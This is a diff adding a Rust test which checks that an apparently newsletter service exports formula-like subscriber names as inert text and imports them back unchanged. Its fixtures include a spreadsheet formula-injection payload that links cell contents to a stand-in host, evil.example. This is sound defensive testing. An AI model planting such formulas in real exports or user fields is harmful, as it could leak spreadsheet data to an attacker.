@@ -153,3 +153,52 @@ async fn repeats_in_other_batches_are_skipped_and_the_first_name_kept() {
         .unwrap();
     assert_eq!(data["consent"].as_array().unwrap().len(), 1, "{data}");
 }
+
+/// A public signup named like a spreadsheet formula is exported inert
+/// (`'=…`), and the export still imports back to the very same name.
+#[tokio::test]
+async fn formulas_in_names_are_exported_inert_and_import_back_unchanged() {
+    let app = spawn_app().await;
+    app.add_newsletter("daily", "Daily").await;
+    app.add_newsletter("weekly", "Weekly").await;
+    let run = random_hex(10);
+    let formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")";
+    let names = [formula, "+1+1", "-2", "@SUM(A1:A9)", "Plain"];
+    for (i, name) in names.iter().enumerate() {
+        let r = app
+            .post_json(
+                "/subscriptions",
+                &serde_json::json!({ "email": addr(&format!("f{i}"), &run), "name": name, "newsletter": "daily" }),
+            )
+            .await;
+        assert_eq!(r.status(), 202);
+    }
+    let exported = export(&app, "daily", "").await;
+    for name in &names[..4] {
+        let cell = format!("'{name}").replace('"', "\"\"");
+        assert!(exported.contains(&cell), "{name} not defused in {exported}");
+    }
+    for line in exported.lines().skip(1) {
+        let second = line
+            .split(',')
+            .nth(1)
+            .unwrap_or_default()
+            .trim_start_matches('"');
+        assert!(!second.starts_with(['=', '+', '-', '@']), "{line}");
+    }
+    let weekly = "/api/admin/newsletters/weekly/subscribers/import?confirmed=true&consent=x";
+    let summary = import(&app, weekly, exported).await;
+    assert_eq!(summary["imported"], 5, "{summary}");
+    let back: HashSet<String> = export_rows(&export(&app, "weekly", "").await)
+        .into_iter()
+        .map(|(_, n, _)| n)
+        .collect();
+    let want: HashSet<String> = names
+        .iter()
+        .map(|n| format!("'{n}").replace("'Plain", "Plain"))
+        .collect();
+    assert_eq!(
+        back, want,
+        "the export of the import is the same, inert again"
+    );
+}
